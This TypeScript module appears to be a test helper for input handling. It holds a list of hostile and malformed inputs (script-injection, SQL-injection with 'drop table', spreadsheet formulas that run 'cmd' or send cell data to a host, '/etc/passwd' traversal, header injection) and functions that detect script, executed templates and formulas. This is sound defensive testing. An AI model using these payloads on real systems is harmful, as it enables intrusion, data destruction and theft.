import type { HTMLElement } from 'node-html-parser'

/** Runs if it is ever let through: found again wherever it was not made harmless. */
const mark = 'zq7'

/** What people send who mean harm, and what software sends by mistake. */
export const hostile = [
  `<script>${mark}()</script>`,
  `"><img src=x onerror=${mark}()>`,
  `'></textarea></title><svg onload=${mark}()>`,
  `javascript:${mark}()`,
  `{{ 7*7 }}${mark} {% raw %} \${7*7} #{7*7}`,
  `' or '1'='1`,
  `'); drop table people.person; --`,
  `\\'; select pg_sleep(9); --`,
  `=HYPERLINK("http://example.org/?"&A1,"${mark}")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+1-1',
  '\t=1+1',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202ereversed\u202c',
  '\u200b\ufeff\u2060',
  '👩‍👩‍👧‍👦🏴\u{e0067}\u{e007f}',
  'Z\u0351\u036b\u0343'.repeat(400),
  'long '.repeat(20_000),
  '9'.repeat(400),
  '-1',
  '1e309',
  'NaN',
  'infinity',
  '-infinity',
  '2026-02-30',
  '9999-12-31',
  '0000-00-00',
  '0001-01-01',
  '294277-01-01',
  '29/2/2025',
  '24:60',
  '../../../../etc/passwd',
  '//example.org/x',
  '/\\example.org',
  '%00%0d%0aSet-Cookie: a=b',
  'x\r\nSet-Cookie: a=b',
  '__proto__',
  'constructor',
  '[object Object]',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-7FFF-8FFF-FFFFFFFFFFFF',
  '',
  ' ',
]

/** A page that says it has no picture of its own, so that none is asked for. */
const NO_ICON = 'data:,'

/** What would run in a browser on this page; empty when there is nothing. */
export function runsIn(page: HTMLElement): string[] {
  const found: string[] = []
  for (const element of page.querySelectorAll('*')) {
    for (const [name, value] of Object.entries(element.attributes)) {
      if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`)
      if (
        ['href', 'src', 'action', 'formaction'].includes(name) &&
        /^\s*(javascript|data|vbscript):/i.test(value) &&
        value !== NO_ICON
      )
        found.push(`${element.tagName} ${name}=${value.slice(0, 60)}`)
    }
    if (element.tagName === 'SCRIPT' && !element.getAttribute('src')) found.push('SCRIPT of the page’s own')
  }
  return found
}

/** Somebody else's template was carried out where its words should stand. */
export const carriedOut = (text: string) => text.includes(`49${mark}`)

/** Cells that a spreadsheet would run. A plain number may begin with a minus. */
export const formulasIn = (rows: string[][]): string[] =>
  rows.flat().filter(cell => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?%?$/.test(cell))
